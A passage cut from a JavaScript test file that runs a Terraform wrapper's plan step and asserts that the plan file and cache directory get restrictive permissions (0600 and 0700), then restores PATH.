      const planFile = join(settings.cacheDir, 'deploy.tfplan')
      await new Terraform(settings).plan(planFile)
      assert.equal(statSync(planFile).mode & 0o777, 0o600)
      assert.equal(statSync(settings.cacheDir).mode & 0o777, 0o700)
    } finally {
      process.env.PATH = previous
    }
  })
})
